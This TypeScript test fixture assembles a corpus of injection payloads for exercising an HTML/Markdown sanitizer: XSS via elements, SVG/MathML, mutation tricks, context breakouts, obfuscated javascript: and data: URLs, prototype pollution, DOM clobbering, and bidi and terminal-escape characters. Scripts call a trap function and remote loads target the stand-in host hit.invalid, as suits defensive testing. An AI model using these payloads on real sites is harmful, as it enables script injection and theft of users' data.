/**
 * Text that wants to run, load or be something, by the technique it stands for. Every script says so by `__ran()`, every
 * request goes to `https://hit.invalid`, which nobody answers. Nobody's list: written for what this package does with
 * text, after the techniques that are known to work elsewhere.
 */

/** What a script does when it runs; `count` is the page's trap. */
const RUN = '__ran()';
/** Where nothing may go. */
export const TRAP_HOST = 'hit.invalid';
const HIT = `https://${TRAP_HOST}/x`;

const chr = (...codes: readonly number[]) => String.fromCodePoint(...codes);
const [NUL, TAB, LF, CR, FF, BS] = [0, 9, 10, 13, 12, 8].map((code) => chr(code)) as [
  string,
  string,
  string,
  string,
  string,
  string,
];
/** Bidi and invisible characters that reorder or hide what stands beside them. */
const RLO = chr(0x202e);
const [RLI, PDI, ZWSP, BOM, LSEP, SHY] = [0x2067, 0x2069, 0x200b, 0xfeff, 0x2028, 0xad].map((code) => chr(code)) as [
  string,
  string,
  string,
  string,
  string,
  string,
];

const elements = {
  'a script': `<script>${RUN}</script>`,
  'a script in odd letters': `<ScRiPt x>${RUN}</sCrIpT >`,
  'a script with a slash': `<script/x/>${RUN}</script/y>`,
  'a script in a script': `<scr<script></script>ipt>${RUN}</script>`,
  'a script without an end': `<script>${RUN}//`,
  'a script from elsewhere': `<script src="${HIT}.js"></script>`,
  'a script without a scheme': `<script src=//${TRAP_HOST}/x.js></script>`,
  'a module': `<script type=module>import "${HIT}.js"</script>`,
  'a preload': `<link rel=modulepreload href=${HIT}.js><link rel=preload as=image href=${HIT}>`,
  'a picture that fails': `<img src=x:y onerror=${RUN}>`,
  'a picture with quotes': `<img """><img src='x:' onerror='${RUN}'>"`,
  'a picture without spaces': `<img/src=x:/onerror=${RUN}>`,
  'a picture with a set': `<img srcset="${HIT} 1x, ${HIT}2 2x">`,
  'a picture of old': `<image src=x: onerror=${RUN}>`,
  'a source': `<picture><source srcset=${HIT}><img></picture>`,
  'a video': `<video src=${HIT} poster=${HIT} autoplay onloadstart=${RUN}><source onerror=${RUN} src=x:></video>`,
  'a sound': `<audio autoplay src=${HIT} onerror=${RUN}></audio>`,
  'a body': `<body onload=${RUN} background=${HIT}>`,
  'a focus': `<input autofocus onfocus=${RUN}>`,
  'a tab stop': `<x tabindex=1 autofocus onfocus=${RUN} id=x>#x`,
  'a fold': `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  'a marquee': `<marquee onstart=${RUN} behavior=scroll>x</marquee>`,
  'an animation': `<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart=${RUN}>x</b>`,
  'a transition': `<b style="transition:color 1s" ontransitionrun=${RUN}>x</b>`,
  'a pointer': `<b onpointerrawupdate=${RUN} onmouseover=${RUN} oncontentvisibilityautostatechange=${RUN}>x</b>`,
  'a dialog': `<dialog open oncancel=${RUN}><form method=dialog><button formaction="javascript:${RUN}">x</button></form>`,
  'a popover': `<button popovertarget=p>x</button><b popover id=p onbeforetoggle=${RUN}>x</b>`,
  'a frame': `<iframe src="javascript:${RUN}"></iframe>`,
  'a frame with a document': `<iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"></iframe>`,
  'a frame from elsewhere': `<iframe src=${HIT}></iframe><frameset><frame src=${HIT}></frameset>`,
  'a frame that loads': `<iframe onload=${RUN}></iframe>`,
  'an object': `<object data="javascript:${RUN}"></object><object data=${HIT}></object>`,
  'an embed': `<embed src="javascript:${RUN}"><embed src=${HIT}>`,
  'an applet': `<applet code=${HIT}></applet>`,
  'a base': `<base href="${HIT}/" target=_blank>`,
  'a refresh': `<meta http-equiv=refresh content="0;url=${HIT}">`,
  'a refresh that runs': `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  'a policy': `<meta http-equiv=Content-Security-Policy content="default-src *; report-uri ${HIT}">`,
  'a form': `<form action="javascript:${RUN}" id=f><input name=action><button>x</button></form>`,
  'a form elsewhere': `<form action=${HIT}><input type=image src=${HIT} formaction="javascript:${RUN}">`,
  'a field of another form': `<button form=f formaction=${HIT}>x</button>`,
  'a sheet': `<link rel=stylesheet href=${HIT}.css>`,
  'a style': `<style>@import "${HIT}.css"; *{display:none!important;background:url(${HIT})}</style>`,
  'a style in an attribute': `<b style="background:url(${HIT});position:fixed;inset:0;z-index:9999">x</b>`,
  'an old style': `<b style="width:expression(${RUN});-moz-binding:url(${HIT});behavior:url(${HIT})">x</b>`,
  'a template': `<template shadowrootmode=open><script>${RUN}</script></template>`,
  'a slot': `<slot name=header></slot><b slot=footer>x</b>`,
  'a part': `<b part="composer" exportparts="x">x</b>`,
  'a custom element': `<ahp-chat src="wss://${TRAP_HOST}/"></ahp-chat><ahp-content-ref></ahp-content-ref>`,
  'a portal': `<portal src=${HIT}></portal><fencedframe src=${HIT}></fencedframe>`,
  'a ping': `<a href=x: ping=${HIT} download>x</a>`,
  'a declaration': `<!DOCTYPE x SYSTEM "${HIT}"><!ENTITY y SYSTEM "${HIT}">`,
  'an instruction': `<?xml-stylesheet href="javascript:${RUN}"?><?php ${RUN} ?>`,
  'a plaintext': '<plaintext><xmp><listing>x',
} as const;

const namespaces = {
  'a drawing that loads': `<svg onload=${RUN}>`,
  'a drawing without an end': `<svg/onload=${RUN}//`,
  'a script in a drawing': `<svg><script>${RUN}</script><script href="data:,${RUN}"/></svg>`,
  'an animated address': `<svg><a><animate attributeName=href values="javascript:${RUN}" /><text>x</text></a></svg>`,
  'an animated start': `<svg><set attributeName=onmouseover to=${RUN}><animate onbegin=${RUN} attributeName=x dur=1s>`,
  'a use': `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:${RUN}'/></svg>#x"/></svg>`,
  'a foreign object': `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"/></foreignObject></svg>`,
  'a picture in a drawing': `<svg><image href=${HIT} onerror=${RUN} /><feImage href=${HIT} /></svg>`,
  'a formula': `<math><mi xlink:href="data:x,<script>${RUN}</script>">x</mi></math>`,
  'a formula that is pressed': `<math href="javascript:${RUN}"><maction actiontype=statusline xlink:href="javascript:${RUN}">x</maction></math>`,
  'a style in a formula': `<math><mtext><table><mglyph><style><img src=x: onerror=${RUN}></style></mglyph></table></mtext></math>`,
  'a title in a drawing': `<svg></p><style><a title="</style><img src=x: onerror=${RUN}>">`,
  'a comment in a drawing': `<svg><style><!--</style><img title="--><img src=x: onerror=${RUN}>"></svg>`,
  'an annotation': `<math><annotation-xml encoding="text/html"><style><img src=x: onerror=${RUN}></style></annotation-xml></math>`,
} as const;

/** Text that becomes another tree when it is written out and read again. */
const mutations = {
  'a noscript': `<noscript><p title="</noscript><img src=x: onerror=${RUN}>">`,
  'a textarea': `<textarea></textarea><img src=x: onerror=${RUN}></textarea>`,
  'a title': `<title><img title="</title><img src=x: onerror=${RUN}>"></title>`,
  'a comment': `<!--><img src=x: onerror=${RUN}>-->`,
  'a comment with a bang': `<!-- --!><img src=x: onerror=${RUN}> -->`,
  'a section of characters': `<![CDATA[<img src=x: onerror=${RUN}>]]>`,
  'a backtick': '<img alt="`><img src=x: onerror=__ran()>`">',
  'nested forms': `<form><div></form><form><mtext></form><form><mglyph><style></math><img src=x: onerror=${RUN}>`,
  'a select': `<select><template><img src=x: onerror=${RUN}></template><keygen autofocus onfocus=${RUN}></select>`,
  'deep nesting': `${'<div>'.repeat(600)}<img src=x: onerror=${RUN}>`,
  'a table': `<table><tr><td><style></table><img src=x: onerror=${RUN}></style></td></tr></table>`,
} as const;

const breaks = {
  'out of double quotes': `"><img src=x: onerror=${RUN}>`,
  'out of single quotes': `' onfocus=${RUN} autofocus x='`,
  'out of an attribute': `x onmouseover=${RUN} style=position:fixed;inset:0`,
  'out of a text field': `</textarea><script>${RUN}</script>`,
  'out of a script': `</script><script>${RUN}</script>`,
  'out of a style': `</style><script>${RUN}</script>`,
  'out of a comment': `--><script>${RUN}</script><!--`,
  'out of a template literal': `\${${RUN}}\`;${RUN};\``,
  'a template of a framework': `{{constructor.constructor('${RUN}')()}} [[${RUN}]] #{${RUN}} <%= ${RUN} %>`,
  'a binding of Lit': `\${html\`<img src=x: onerror=${RUN}>\`} .innerHTML=\${x} @click=\${${RUN}} lit$123$ <!--?lit$-->`,
  'a value of Lit': '{"_$litType$":1,"strings":["<img src=x: onerror=__ran()>"],"values":[]}',
  'out of a string': `';${RUN};'";${RUN};"\\`,
  'a selector': `x"],*{background:url(${HIT})}[y="`,
  'out of a name of a font': `x;background-image:url(${HIT});x:`,
  'out of JSON': `"}],"__proto__":{"polluted":true},"x":[{"y":"`,
} as const;

/** `javascript:` and its like, however it is spelled; each also goes into links. */
const addresses = {
  plain: `javascript:${RUN}`,
  'in odd letters': `JaVaScRiPt:${RUN}`,
  'with spaces before': ` ${chr(1)}${TAB} javascript:${RUN}`,
  'with a tab inside': `java${TAB}script:${RUN}`,
  'with line breaks inside': `java${LF}scr${CR}ipt:${RUN}`,
  'with a NUL inside': `java${NUL}script:${RUN}`,
  'with other controls': `${BS}java${FF}script:${RUN}`,
  'with invisible characters': `java${ZWSP}script:${RUN}${BOM}${SHY}`,
  'with decimal entities': `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}`,
  'with padded entities': `&#0000106avascript:${RUN}`,
  'with hexadecimal entities': `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${RUN}`,
  'with named entities': `java&Tab;script&colon;__ran&lpar;&rpar;`,
  'with a new line entity': `java&NewLine;script:${RUN}`,
  'percent-encoded': `javascript%3A${RUN}`,
  'percent-encoded twice': `%256aavascript:${RUN}`,
  escaped: `java\\script\\:${RUN}`,
  'with unicode escapes': `\\u006aavascript:${RUN}`,
  'with wide letters': `ｊａｖａｓｃｒｉｐｔ:${RUN}`,
  'with a comment': `javascript://x.example/%0a${RUN}//https://x.example`,
  'with a user': `javascript://user@x.example/%0A${RUN}`,
  'after a view': `view-source:javascript:${RUN}`,
  'after a feed': `feed:javascript:${RUN}`,
  'of old': `vbscript:msgbox(1) livescript:${RUN} mocha:${RUN}`,
  'as data': `data:text/html,<script>${RUN}</script>`,
  'as encoded data': `data:text/html;base64,${btoa(`<script>${RUN}</script>`)}`,
  'as a drawing': `data:image/svg+xml,<svg onload="${RUN}" xmlns="http://www.w3.org/2000/svg"/>`,
  'as data in odd letters': `DaTa:text/html;charset=x,<script>${RUN}</script>`,
  'as a blob': 'blob:https://x.example/0000-0000',
  'as a file system': `filesystem:https://x.example/${RUN}`,
  'without a scheme': `//${TRAP_HOST}/x`,
  'with backslashes': `\\\\${TRAP_HOST}\\x`,
  'with one slash': `https:/${TRAP_HOST}/x`,
  'with a user like a host': `https://x.example@${TRAP_HOST}/x`,
  'with a name in the path': `https://${TRAP_HOST}/javascript:${RUN}`,
} as const;

/** The ways in which Markdown carries an address, or HTML. */
const carriers: Readonly<Record<string, (address: string) => string>> = {
  'a link': (address) => `[x](${address})`,
  'a link in angles': (address) => `[x](<${address}>)`,
  'a link with a title': (address) => `[x](${address} "t\\" onclick=${RUN} x=\\"")`,
  'a picture': (address) => `![x" onerror="${RUN}](${address})`,
  'a linked picture': (address) => `[![x](${address})](${address})`,
  'a reference': (address) => `[x][r] [r] ![y][r]\n\n[r]: ${address} 'a"b'`,
  'a reference in angles': (address) => `[x]\n\n[x]: <${address}>`,
  'an autolink': (address) => `<${address}>`,
  'a bare address': (address) => `see ${address} there`,
  'a cell': (address) => `| a | b |\n|---|:-:|\n| [x](${address}) | ${address} |`,
  'a heading in a quote in a list': (address) => `- > # [x](${address})`,
  'a fence': (address) => `~~~${address}\n${address}\n~~~`,
  'a link in a link': (address) => `[a [b](${address}) c](${address})`,
  'a code span in a link': (address) => `[\`x](${address})\` y](${address})`,
};

const markdown = {
  'a block of HTML': `<div>\n\n**x**\n\n<script>${RUN}</script>\n\n</div>`,
  'HTML in a line': `x <b onclick=${RUN}>y</b> <a href="javascript:${RUN}">z</a>`,
  'an info string that breaks out': `\`\`\`js" onload="${RUN}\n<script>${RUN}</script>\n\`\`\``,
  'an info string of HTML': `~~~<img src=x: onerror=${RUN}>\nx\n~~~`,
  'an info string of a prototype': '```__proto__\nx\n```\n\n```constructor\nx\n```\n\n```toString\nx\n```',
  'a heading with an id': `# <a id=x name=y>${RUN}</a> {#__proto__ onclick=${RUN}}`,
  'an unclosed picture': `![<img src=x: onerror=${RUN}>`,
  'a task': `- [x] <img src=x: onerror=${RUN}>\n- [ ] [y](javascript:${RUN})`,
  'a footnote': `x[^1]\n\n[^1]: <img src=x: onerror=${RUN}>`,
  'a formula': `$\\href{javascript:${RUN}}{x}$ $$\\htmlData{x=<img src=x: onerror=${RUN}>}$$ \\(\\unicode{<script>}\\)`,
  'a diagram': `\`\`\`mermaid\ngraph TD; A-->|<img src=x: onerror=${RUN}>|B; click A "javascript:${RUN}"\n\`\`\``,
  'a picture of data': `![x](data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`)})`,
  'a picture elsewhere': `![x](${HIT}.png) ![y](//${TRAP_HOST}/y.png) ![z](http://${TRAP_HOST}:80/z.png "t")`,
  'a mail address': `<x@x.example?body=%0d%0aBcc:y@y.example> mailto:x@x.example?attach=/etc/passwd`,
  'front matter': `---\nx: !!js/function "${RUN}"\n---\n`,
  'a directive': `:::x{onclick="${RUN}"}\n::iframe[x]{src=${HIT}}\n:::`,
} as const;

/** Names that are somebody else's in a document or an object. */
const names = {
  'the prototype': '__proto__',
  'the constructor': 'constructor',
  'a method': 'toString',
  'a path to the prototype': 'constructor.prototype.polluted',
  'own property': 'hasOwnProperty',
  'the document': 'document',
  'the body': 'body',
  'the trap': '__ran',
  'a frame': 'frames',
  'an id of the chat': 'command-hint',
  nothing: '',
  'a space': ' ',
  'not a number': 'NaN',
  'a clobbered form': `<form id=x><input id=attributes name=attributes><input name=nodeName></form><a id=x><a id=x name=y href=x:>`,
  'a clobbered document': `<img name=currentScript><img name=getElementById><form name=body><a id=defaultView>`,
} as const;

const characters = {
  'a NUL': `a${NUL}b<sc${NUL}ript>${RUN}</sc${NUL}ript>`,
  'an override': `photo_${RLO}gnp.exe`,
  'an isolate without an end': `${RLI}abc${RLI}def ${PDI}${PDI}${PDI} x`,
  'line separators': `a${LSEP}b${chr(0x2029)}c${CR}d${LF}e`,
  'escape sequences': `${chr(27)}]8;;javascript:${RUN}${chr(7)}x${chr(27)}]8;;${chr(7)}${chr(27)}[2J${chr(27)}[31mred`,
  'a title for the terminal': `${chr(27)}]0;<img src=x: onerror=${RUN}>${chr(7)}${chr(27)}P+q544e${chr(27)}\\`,
  'half a pair': `a\ud800b\udc00c\uffff\ufffe`,
  'many marks': `x${chr(0x0301).repeat(2_000)}`,
  'letters of another width': `＜script＞${RUN}＜/script＞ ‹img src=x: onerror=${RUN}›`,
  'UTF-7': `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  'an overlong sequence': `\u00c0\u00bcscript\u00c0\u00be${RUN}`,
  'tags of a language': `${chr(0xe0001)}${[...'<script>'].map((one) => chr(0xe0000 + one.codePointAt(0)!)).join('')}`,
  'entities that are none': `&lt;img src=x: onerror=${RUN}&gt; &#60;script&#62;${RUN}&#0; &#xD800; &#x110000; &amp;lt;`,
  'an endless word': 'W'.repeat(20_000),
} as const;

const prefixed = (prefix: string, given: Readonly<Record<string, string>>): [string, string][] =>
  Object.entries(given).map(([name, text]) => [`${prefix}: ${name}`, text]);

/** Every text once, by the name of its technique. */
export const corpus: ReadonlyMap<string, string> = new Map([
  ...prefixed('element', elements),
  ...prefixed('namespace', namespaces),
  ...prefixed('mutation', mutations),
  ...prefixed('break', breaks),
  ...prefixed('address', addresses),
  ...Object.entries(carriers).flatMap(([carrier, carry]) =>
    Object.entries(addresses).map(([name, address]): [string, string] => [`${carrier} ${name}`, carry(address)]),
  ),
  ...prefixed('Markdown', markdown),
  ...prefixed('name', names),
  ...prefixed('character', characters),
]);
